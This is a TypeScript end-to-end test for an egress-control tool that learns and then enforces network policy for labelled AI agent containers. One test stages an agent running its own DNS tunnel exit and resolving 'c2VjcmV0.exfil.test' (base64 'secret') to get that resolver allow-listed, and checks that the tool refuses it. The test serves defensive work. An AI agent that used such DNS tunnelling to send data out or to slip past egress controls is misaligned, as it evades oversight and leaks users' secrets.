// Issue 16, "must show": a learn cycle on a labelled Docker container, through the real pipeline
// of the test's private instance (`sluice up --docker`: reader, attributor reading the
// dev.clawker.* labels from Docker, policy service on the real kernel, learner, sink) and the real
// CLI. The container runs with the sluice runtime under the instance's managed scope, resolves two
// names through Docker's embedded DNS (127.0.0.11, on its loopback) and connects to them; the
// learner proposes those names and the resolver (the kernel trusts DNS answers in enforce mode only
// from a listed resolver, so without it every learned name would be denied); `sluice learn accept
// --enforce` applies it with a proof of 0 would-deny; then exactly those names connect, and a new
// name and a bare address are refused with EPERM and recorded DENIED.
//
// The attack first, as an agent would run it (in its container, in learn mode): it sends its DNS
// to a "resolver" it runs itself on the bridge (the exit of a DNS tunnel) and gets answers. That
// resolver must not end up listed: the proposal only suggests it, flagged, and `accept --enforce`
// refuses, naming it; once the policy enforces, the agent's DNS to it is EPERM.
import { existsSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { EgressEvent } from '@sluice/contracts';
import { dockerClient, hasRuntime, sluiceCliAsync, testServer, waitFor } from '@sluice/testkit';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BPF_BUILD, jsonLines, run } from '../kernel/exec.ts';

const IMAGE = 'sluice/base:busybox';
const PROBE = resolve(BPF_BUILD, 'probe-static');
const tag = `${process.pid}`;
const project = `learn-docker-${tag}`;
const agent = 'coder';
const scope = (process.env.SLUICE_MANAGED_CGROUPS ?? '').split(',')[0]!;
const net = `sluice-test-learn-${tag}`;
const known = `sluice-test-learnsrv-${tag}`;
const other = `sluice-test-learnoth-${tag}`;
const tunnel = `sluice-test-learntun-${tag}`;
let tunnelIp = '';
let otherIp = '';

async function docker(...args: string[]): Promise<string> {
  const r = await run('docker', args);
  if (r.code !== 0) throw new Error(`docker ${args.slice(0, 3).join(' ')} … failed (${r.code}): ${r.stderr}`);
  return r.stdout;
}

const cli = (...args: string[]) => sluiceCliAsync(args);

/** One agent container: labelled, in the managed scope, with the sluice runtime; its probe's JSON lines. */
async function agentRun<T = Record<string, unknown>>(name: string, ...ops: string[]): Promise<T[]> {
  return agentRunAs<T>(agent, name, ...ops);
}

async function agentRunAs<T = Record<string, unknown>>(who: string, name: string, ...ops: string[]): Promise<T[]> {
  const out = await docker(
    'run', '--rm', '--name', `sluice-test-${name}-${tag}`, '--network', net, '--cgroup-parent', `${scope}/agents`, '--runtime', 'sluice',
    '--label', `dev.clawker.project=${project}`, '--label', `dev.clawker.agent=${who}`,
    '-v', `${PROBE}:/probe:ro`, '--entrypoint', '/probe', IMAGE, ...ops,
  );
  return jsonLines<T>(out);
}

interface Outcomes {
  op: string;
  outcomes?: { resolved: number; OK: number; ECONNREFUSED: number; other: number };
  error?: string;
  ok?: boolean;
}

beforeAll(async () => {
  if (!scope.startsWith('/sluice-test')) throw new Error(`not the test instance's scope: ${JSON.stringify(scope)} (run through scripts/test.sh)`);
  if (!existsSync(PROBE)) throw new Error(`${PROBE} is missing: run \`pnpm build\``);
  const engine = dockerClient(testServer('DOCKER_HOST'));
  if (!(await hasRuntime(engine, 'sluice'))) throw new Error("dockerd does not know the 'sluice' runtime: start it with scripts/services.sh");
  const up = await cli('up', '--docker', '--timeout', '180');
  if (up.code !== 0) throw new Error(`sluice up failed:\n${up.stderr}`);

  await docker('network', 'create', net);
  // Two servers on the bridge: names the agent learns, and a name (and address) it meets only later.
  await docker('run', '-d', '--name', known, '--network', net, '--network-alias', 'n0.learn.test', '--network-alias', 'n1.learn.test',
    '-v', `${PROBE}:/probe:ro`, '--entrypoint', '/probe', IMAGE, 'serve', '0.0.0.0', '8080', '600000');
  await docker('run', '-d', '--name', other, '--network', net, '--network-alias', 'm0.learn.test',
    '-v', `${PROBE}:/probe:ro`, '--entrypoint', '/probe', IMAGE, 'serve', '0.0.0.0', '8080', '600000');
  // The attacker's own DNS server: answers every A query (outside the scope: it is the far end).
  await docker('run', '-d', '--name', tunnel, '--network', net,
    '-v', `${PROBE}:/probe:ro`, '--entrypoint', '/probe', IMAGE, 'dnsserve', '0.0.0.0', '53', '192.0.2.80', '600000');
  const ipOf = async (c: string) => (await docker('inspect', '-f', `{{(index .NetworkSettings.Networks "${net}").IPAddress}}`, c)).trim();
  otherIp = await ipOf(other);
  tunnelIp = await ipOf(tunnel);

  const file = join(mkdtempSync(join(tmpdir(), 'learn-docker-')), 'policy.yaml');
  writeFileSync(file, `version: 1\npolicies:\n  - name: agents-${tag}\n    match: { project: ${project} }\n    mode: learn\n    egress:\n      allow: []\n`);
  const apply = await cli('policy', 'apply', file, '--reason', 'learn docker e2e');
  if (apply.code !== 0) throw new Error(`policy apply failed:\n${apply.stderr}`);
}, 600_000);

/** The agent's DENIED events as the sink stored them (the NDJSON store: no OpenSearch here), read by `sluice tail`. */
async function storedDenied(): Promise<EgressEvent[]> {
  const r = await cli('tail', '--from-file', '--project', project, '--agent', agent, '--verdict', 'DENIED', '--json');
  if (r.code !== 0) throw new Error(`sluice tail failed: ${r.stderr}`);
  return r.stdout.split('\n').filter(Boolean).map((l) => EgressEvent.parse(JSON.parse(l)));
}

afterAll(async () => {
  await cli('learn', 'reset', '--project', project, '--agent', agent);
  await run('docker', ['rm', '-f', known, other, tunnel]);
  await run('docker', ['network', 'rm', net]);
  await cli('down');
}, 120_000);

interface Resolved {
  op: string;
  ok: boolean;
  errno: number;
}

describe('a learn cycle on a labelled container', () => {
  it('attack: a resolver the agent runs itself and that answered is only suggested, flagged, and accept --enforce refuses it', async () => {
    const mallory = 'mallory';
    expect((await cli('learn', 'start', '--project', project, '--agent', mallory)).code).toBe(0);
    const [asked] = await agentRunAs<Resolved>(mallory, 'tunnel', 'resolve', tunnelIp, 'c2VjcmV0.exfil.test', 'a');
    expect(asked).toMatchObject({ op: 'resolve', ok: true }); // precondition: learn mode let it through and it answered

    const diff = await waitFor(
      'the learner seeing the answered DNS to the agent\'s own resolver',
      async () => {
        const r = await cli('learn', 'diff', '--project', project, '--agent', mallory, '--json');
        if (r.code !== 0) return undefined;
        const d = JSON.parse(r.stdout) as { proposal: any; yaml: string };
        return d.proposal.resolver_suggestions.length > 0 ? d : undefined;
      },
      60_000,
    );
    expect(diff.proposal.resolvers).toEqual([]);
    expect(diff.proposal.resolver_suggestions).toEqual([
      expect.objectContaining({ resolver: tunnelIp, findings: [expect.stringMatching(/^remote-resolver: /)] }),
    ]);
    expect(diff.yaml).toContain('suggest_resolvers:');

    const before = (await cli('policy', 'get')).stdout;
    const refused = await cli('learn', 'accept', '--project', project, '--agent', mallory, '--enforce');
    expect(refused.code).not.toBe(0);
    expect(refused.stderr).toMatch(/proof_failed: refusing to accept/);
    expect(refused.stderr).toContain(`--resolver ${tunnelIp}`);
    expect((await cli('policy', 'get')).stdout).toBe(before); // nothing applied
    expect((await cli('learn', 'reset', '--project', project, '--agent', mallory)).code).toBe(0);
  }, 180_000);

  it('learns the names and Docker\'s resolver, accepts with a proof of 0 would-deny, and then enforces exactly that', async () => {
    expect((await cli('learn', 'start', '--project', project, '--agent', agent)).code).toBe(0);

    // Learn mode: everything passes, the would-deny attempts are recorded.
    const [learned] = await agentRun<Outcomes>('learn', 'resolveconnect', '127.0.0.11', 'n%d.learn.test', '2', '8080');
    expect(learned!.outcomes).toEqual({ resolved: 2, OK: 2, ECONNREFUSED: 0, other: 0 });

    // Wait on the learner, not a clock: the proposal has both names and the resolver.
    const diff = await waitFor(
      'the learner proposing both names and the resolver',
      async () => {
        const r = await cli('learn', 'diff', '--project', project, '--agent', agent, '--json');
        if (r.code !== 0) return undefined;
        const d = JSON.parse(r.stdout) as { proposal: any };
        const hosts = d.proposal.additions.map((a: any) => a.host).sort();
        return hosts.length === 2 && d.proposal.resolvers.length > 0 ? d : undefined;
      },
      60_000,
    );
    const p = diff.proposal;
    expect(p.additions.map((a: any) => [a.host, a.proto, a.ports, a.agents])).toEqual([
      ['n0.learn.test', 'tcp', [8080], [agent]],
      ['n1.learn.test', 'tcp', [8080], [agent]],
    ]);
    expect(p.resolvers).toEqual(['127.0.0.11']);
    expect(p.resolver_suggestions).toEqual([]);
    expect(p.proof.enforce_would_deny).toEqual([]);
    expect(p.proof.would_deny).toEqual([]);

    const accept = await cli('learn', 'accept', '--project', project, '--agent', agent, '--enforce', '--json');
    expect(accept.code, accept.stderr).toBe(0);
    const accepted = JSON.parse(accept.stdout) as { changed: boolean; revision: number; added: string[]; proof: { would_deny: number; destinations: number } };
    expect(accepted).toMatchObject({ changed: true, proof: { would_deny: 0, destinations: 2 } });
    expect([...accepted.added].sort()).toEqual(['n0.learn.test tcp 8080', 'n1.learn.test tcp 8080', 'resolver 127.0.0.11']);
    const doc = await cli('policy', 'get');
    expect(doc.stdout).toMatch(/mode: enforce/);

    // The policy service has that revision in the kernel maps before the next container starts.
    await waitFor(
      `policy revision ${accepted.revision} in the kernel maps`,
      async () => {
        const s = JSON.parse((await cli('status', '--json')).stdout) as Array<{ name: string; checks: Record<string, { ok: boolean; detail: string }> }>;
        return s.find((x) => x.name === 'policy')?.checks['kernel-sync']?.detail === `revision ${accepted.revision}` ? true : undefined;
      },
      30_000,
    );

    // Enforce mode: the learned names connect; a new name and a bare address do not.
    const [again] = await agentRun<Outcomes>('enforce-learned', 'resolveconnect', '127.0.0.11', 'n%d.learn.test', '2', '8080');
    expect(again!.outcomes).toEqual({ resolved: 2, OK: 2, ECONNREFUSED: 0, other: 0 });
    const [newName] = await agentRun<Outcomes>('enforce-new', 'resolveconnect', '127.0.0.11', 'm%d.learn.test', '1', '8080');
    expect(newName!.outcomes).toEqual({ resolved: 1, OK: 0, ECONNREFUSED: 0, other: 1 });
    const [bare] = await agentRun<Outcomes>('enforce-bare', 'connect', otherIp, '8080');
    expect(bare).toMatchObject({ op: 'connect', error: 'EPERM' });
    // The tunnel exit the attacker's session tried to get listed: closed.
    const [tunnelled] = await agentRunAs<Resolved>('mallory', 'enforce-tunnel', 'resolve', tunnelIp, 'c2VjcmV0.exfil.test', 'a');
    expect(tunnelled).toMatchObject({ op: 'resolve', ok: false, errno: 1 }); // EPERM

    // Each refusal is stored DENIED, attributed to the container's labels (the new name with its name).
    const got = await waitFor(
      'DENIED events for the new name and the bare address',
      async () => {
        const denied = await storedDenied();
        const byName = denied.find((e) => e.dst_host === 'm0.learn.test' && e.dst_port === 8080);
        const byIp = denied.find((e) => e.dst_ip === otherIp && e.dst_host === undefined && e.dst_port === 8080);
        return byName && byIp ? { byName, byIp } : undefined;
      },
      30_000,
    );
    expect(got.byName).toMatchObject({ verdict: 'DENIED', project, agent, attribution: 'docker', dst_ip: otherIp });
    expect(got.byIp).toMatchObject({ verdict: 'DENIED', project, agent, attribution: 'docker' });
    // Nothing the agent learned was refused.
    expect((await storedDenied()).filter((e) => e.dst_host?.startsWith('n'))).toEqual([]);
  }, 300_000);
});
